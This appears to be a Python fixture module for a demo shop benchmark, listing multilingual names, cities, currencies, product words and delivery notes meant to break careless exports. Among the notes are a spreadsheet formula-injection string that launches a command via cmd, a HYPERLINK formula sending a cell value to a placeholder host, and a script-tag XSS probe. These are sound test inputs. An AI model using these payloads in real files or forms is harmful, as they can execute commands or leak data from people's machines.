"""What the people, products and notes of the demo shop are made of; read by benchmarks.shop alone.

Notes hold on purpose what breaks careless exports: several scripts, line breaks, quotes, separators, text
that a spreadsheet would take for a formula, numbers that must stay text.
"""

FIRST_NAMES = (  # noqa: SIM905 - reads better than one name a line
    "Anna Zoë José Çağla İlker Łukasz Søren Åsa Nguyễn Ελένη Νίκος Ольга Дмитрий Øystein Siân Máire "
    "Jürgen Renée François Günther Ayşe Şebnem Ğülçin 美咲 健太 伟 丽娜 민준 서연 فاطمة محمد נועה "
    "Björn Inês João Siobhán Ivana Zdeněk Mirjana Tōru Priya Arjun Olumide Chidi Kwame Marta Lucía "
    "Noah Emma Liam Grace Ivan Sofia Lars Clara Hugo Nora"
).split()
LAST_NAMES = (  # noqa: SIM905
    "Müller Yılmaz Öztürk García Nguyễn Kowalski Sørensen Ångström Παπαδόπουλος Иванова Петров "
    "Łuczak Dvořák Núñez d'Arcy O'Neill Smith-Jones Saint-Exupéry 佐藤 鈴木 王 李 김 박 الحسن כהן "
    "Björk Škoda Žižka Petrović Šimić Silva Gonçalves Dubois Lefèvre Weiß Groß Rossi Bianchi Novák "
    "Horváth Szabó Tóth Kovačević Popescu Ionescu Okafor Mensah Patel Singh Andersson Johansson "
    "Hansen Virtanen Korhonen Jansen de_Vries van_den_Berg"
).split()

# City, country, telephone prefix.
CITIES = (
    ("Berlin", "DE", "+49 30"),
    ("Köln", "DE", "+49 221"),
    ("Wien", "AT", "+43 1"),
    ("Zürich", "CH", "+41 44"),
    ("Genève", "CH", "+41 22"),
    ("Paris", "FR", "+33 1"),
    ("Besançon", "FR", "+33 3"),
    ("Amsterdam", "NL", "+31 20"),
    ("'s-Hertogenbosch", "NL", "+31 73"),
    ("Kraków", "PL", "+48 12"),
    ("Łódź", "PL", "+48 42"),
    ("København", "DK", "+45 32"),
    ("Malmö", "SE", "+46 40"),
    ("Tromsø", "NO", "+47 77"),
    ("São Paulo", "BR", "+55 11"),
    ("İstanbul", "TR", "+90 212"),
    ("Şanlıurfa", "TR", "+90 414"),
    ("Αθήνα", "GR", "+30 210"),
    ("Θεσσαλονίκη", "GR", "+30 231"),
    ("София", "BG", "+359 2"),
    ("Київ", "UA", "+380 44"),
    ("東京", "JP", "+81 3"),
    ("京都", "JP", "+81 75"),
    ("上海", "CN", "+86 21"),
    ("서울", "KR", "+82 2"),
    ("القاهرة", "EG", "+20 2"),
    ("תל אביב", "IL", "+972 3"),
    ("New York", "US", "+1 212"),
    ("London", "GB", "+44 20"),
    ("Dún Laoghaire", "IE", "+353 1"),
)

CURRENCIES = {"DE": "EUR", "AT": "EUR", "FR": "EUR", "NL": "EUR", "GR": "EUR", "IE": "EUR", "CH": "CHF"} | {
    "PL": "PLN",
    "DK": "DKK",
    "SE": "SEK",
    "TR": "TRY",
    "GB": "GBP",
}

# Plain words, then what breaks careless exports; None stands for the many rows without a note.
NOTES = (
    "Please leave the parcel with the neighbour.",
    "Gift: no invoice in the box.",
    "Call before delivery.",
    "Bitte an der Hintertür abgeben – danke schön!",
    "Livrer après 18 h, s'il vous plaît.",
    "Lütfen kapıyı çalmayın, bebek uyuyor.",
    "Παρακαλώ αφήστε το δέμα στην είσοδο.",
    "Позвоните за час до доставки.",
    "不在の場合は宅配ボックスへお願いします。",
    "请在下午三点以后送货。",
    "부재 시 문 앞에 놓아주세요.",
    "يرجى الاتصال قبل التسليم",
    "נא להתקשר לפני ההגעה",
    "Thanks 🎉🚚 see you soon 👩‍👩‍👧‍👦",
    "Ring twice.\nThen wait.",
    "First line\r\nSecond line\r\n\r\nFourth line",
    "Two\tcolumns\tby tab",
    'She said "no substitutes", twice.',
    "It's O'Neill's; not O’Neill’s",
    "red, green; blue | white",
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+SUM(A1:A9)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "-5",
    "+49 170 1234567",
    "\t=1+1",
    "fine;=1+1",
    "ok\n=2*2(3)",
    "007",
    "1E5",
    "MARCH1",
    "12345678901234567890",
    "NULL",
    "true",
    "  spaces around  ",
    "",
    "e\u0301 is not \u00e9, and \u202eright to left\u202c",
    "<b>bold</b> & <script>alert(1)</script>",
    "100 % sure \\ backslash \\n is not a line break",
    "An unusually long remark: " + "and so on, " * 60 + "the end.",
)

CATEGORIES = ("Coffee", "Tea", "Kitchen", "Garden", "Café & Bistro", "Büro", "Книги", "文房具")
ADJECTIVES = (
    "Plain",
    "Grand",
    "Petit",
    "Blue",
    "Extra-long",
    "Kleine",
    "Große",
    "Vintage",
    "Éternel",
    "Mini",
    "Mega",
)
THINGS = (  # noqa: SIM905
    "Kettle Teapot Grinder Filter Mug Ladle Spade Rake Notebook Pencil Crêpière Käsereibe Çaydanlık "
    "Samovar 箸 筆 Самовар Μπρίκι Fondue Tray Lamp Stool Basket Apron Towel Whisk Scale Timer Jar "
    "Bowl"
).split()
